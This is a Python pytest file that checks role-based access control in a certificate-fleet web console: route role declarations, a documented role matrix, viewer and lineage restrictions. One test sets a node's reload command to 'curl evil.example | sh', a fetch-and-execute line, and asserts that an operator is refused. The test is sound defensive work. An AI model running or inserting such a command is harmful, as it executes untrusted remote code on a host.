"""Who may do what: every route of the console declares the role it needs, docs/console.md lists
them all, and each route is tried with each role (and with nobody)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from certfleet.console.deps import is_public
from certfleet.console.roles import Role
from support import REPO
from support.console import ANYONE, ConsoleEnv, account_token, bearer, make_env, route_roles

DOC = REPO / "docs" / "console.md"
_ROW = re.compile(r"^\| (GET|HEAD|POST|PUT|PATCH|DELETE) \| `([^`]+)` \| (anyone|metrics|viewer|operator|admin) \|")
# who tries: nobody, then a token of each role, the narrowest first
CALLERS = ("nobody", "metrics", "viewer", "operator", "admin")
FILLERS = {
    "{sha256}": "0" * 64,
    "{name}": "web",
    "{lineage}": "web",
    "{token_id}": "4242",
    "{user_id}": "4242",
    "{number}": "1",
    "{job_id}": "nojob",
    "{preview_id}": "nopreview",
    "{username}": "nobody",
    "{token}": "not-a-token",
}


def documented() -> dict[tuple[str, str], str]:
    """The matrix as docs/console.md writes it."""
    text = DOC.read_text(encoding="utf-8")
    start, end = text.index("<!-- role matrix -->"), text.index("<!-- end of role matrix -->")
    rows = {}
    for line in text[start:end].splitlines():
        found = _ROW.match(line)
        if found:
            rows[(found.group(1), found.group(2))] = found.group(3)
    return rows


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> ConsoleEnv:
    return make_env(tmp_path_factory.mktemp("roles") / "home")


@pytest.fixture(scope="module")
def clients(env: ConsoleEnv) -> dict[str, TestClient]:
    tokens = {
        "admin": account_token(env, "admin", "admin"),
        "metrics": account_token(env, "admin", "admin", token_role="metrics"),
        "operator": account_token(env, "ops", "operator"),
        "viewer": account_token(env, "watcher", "viewer"),
    }
    return {"nobody": env.new_client(), **{role: bearer(env, token) for role, token in tokens.items()}}


def test_every_route_declares_its_role_and_the_docs_list_them_all(env: ConsoleEnv) -> None:
    declared = route_roles(env.app)
    assert len(declared) > 60
    undeclared = sorted(k for k, need in declared.items() if need == ANYONE and not is_public(k[1]))
    assert not undeclared, f"routes without a role: add dependencies=allow(Role.X) or an XDep: {undeclared}"
    assert documented() == declared, "docs/console.md's role matrix and the routes differ: update the table"


def _url(path: str) -> str:
    for name, value in FILLERS.items():
        path = path.replace(name, value)
    assert "{" not in path, f"no filler for a parameter of {path}: add one to FILLERS"
    return path


def _rank(caller: str) -> int:
    return -1 if caller == "nobody" else Role(caller).rank


@pytest.mark.parametrize(("method", "path", "need"), sorted((m, p, n) for (m, p), n in documented().items()))
def test_each_route_with_each_role(clients: dict[str, TestClient], method: str, path: str, need: str) -> None:
    url = _url(path)
    for caller in CALLERS:
        r = clients[caller].request(method, url)
        assert r.status_code < 500, (caller, method, path, r.status_code, r.text[:300])
        if need == ANYONE:  # its own checks (a form's token, a link) may refuse; an account is never asked for
            assert r.status_code != 401 and not r.headers.get("location", "").startswith("/login?"), (caller, path)
        elif caller == "nobody":
            if path.startswith("/api/") or path == "/metrics":
                assert r.status_code == 401, (method, path, r.status_code)
            else:
                assert r.status_code == 303 and r.headers["location"].startswith("/login"), (method, path)
        elif _rank(caller) < Role(need).rank:
            assert r.status_code == 403, (caller, method, path, r.status_code, r.text[:300])
        else:
            assert r.status_code not in (401, 403), (caller, method, path, r.status_code, r.text[:300])


def test_a_viewer_changes_nothing(env: ConsoleEnv, clients: dict[str, TestClient], tmp_path: Path) -> None:
    viewer = clients["viewer"]
    node = {"name": "seen", "names": ["seen.example.test"], "targets": [f"pem:{tmp_path}/seen"]}
    assert viewer.post("/api/v1/nodes", json=node).status_code == 403
    assert viewer.post("/api/v1/lineages/web/deploy", json={}).status_code == 403
    assert (
        viewer.put("/api/v1/client-profiles", json={"name": "m", "hostname": "h.test", "template": "x"}).status_code
        == 403
    )
    assert viewer.post("/api/v1/tokens", json={"name": "wider", "role": "operator"}).status_code == 403
    assert viewer.get("/api/v1/accounts").status_code == 403
    mine = viewer.post("/api/v1/tokens", json={"name": "own"})  # a token of its own role it may make
    assert mine.status_code == 201 and mine.json()["role"] == "viewer"


def test_an_account_kept_to_a_lineage_sees_and_changes_only_it(tmp_path: Path) -> None:
    env = make_env(tmp_path / "home")
    env.store.put_lineage("web")
    env.store.put_lineage("mail")
    admin = bearer(env, account_token(env, "admin", "admin"))
    for name, lineage in (("www", "web"), ("mx", "mail")):
        body = {
            "name": name,
            "names": [f"{name}.example.test"],
            "targets": [f"pem:{tmp_path}/{name}"],
            "lineages": [lineage],
        }
        assert admin.post("/api/v1/nodes", json=body).status_code == 201
    web = bearer(env, account_token(env, "webops", "operator", lineages=["web"]))
    assert [v["name"] for v in web.get("/api/v1/lineages").json()] == ["web"]
    assert [n["name"] for n in web.get("/api/v1/nodes").json()] == ["www"]
    assert web.get("/api/v1/lineages/mail").status_code == 404
    assert web.get("/api/v1/nodes/mx").status_code == 404
    assert web.post("/api/v1/lineages/mail/deploy", json={}).status_code == 404
    assert web.delete("/api/v1/nodes/mx").status_code == 404
    assert web.post("/api/v1/tokens", json={"name": "wider", "lineages": ["web", "mail"]}).status_code == 403
    narrow = web.post("/api/v1/tokens", json={"name": "same"})
    assert narrow.status_code == 201 and narrow.json()["lineages"] == ["web"]
    assert "mail" not in web.get("/metrics").text


def test_an_operator_edits_an_admins_node_but_never_its_commands(tmp_path: Path) -> None:
    from support.console import PASSWORD, csrf_of, login

    env = make_env(tmp_path / "home")
    admin = bearer(env, account_token(env, "admin", "admin"))
    node = {"name": "main", "names": ["www.example.test"], "targets": [f"pem:{tmp_path}/main"], "lineages": ["web"]}
    assert admin.post("/api/v1/nodes", json={**node, "test_cmd": "true", "reload_cmd": "true"}).status_code == 201
    account_token(env, "ops", "operator")
    operator = env.new_client()
    assert login(operator, "ops", PASSWORD).status_code == 303
    page = operator.get("/nodes/main/edit").text
    assert 'id="test_cmd"' in page and "readonly" in page and 'id="password"' not in page
    form = {
        "csrf_token": csrf_of(page), "original": "main", "version": "1", "name": "main",
        "names": "www.example.test\nmore.example.test", "targets": f"pem:{tmp_path}/main", "transport": "local",
        "test_cmd": "true", "reload_cmd": "true", "probe": "", "lineages": "web",
    }  # fmt: skip
    assert operator.post("/nodes", data=form).status_code == 303  # what an operator may change
    assert env.store.node("main").names == ("www.example.test", "more.example.test")
    refused = operator.post("/nodes", data={**form, "version": "2", "reload_cmd": "curl evil.example | sh"})
    assert refused.status_code == 403 and "admin role" in refused.text
    assert env.store.node("main").reload_cmd == "true"
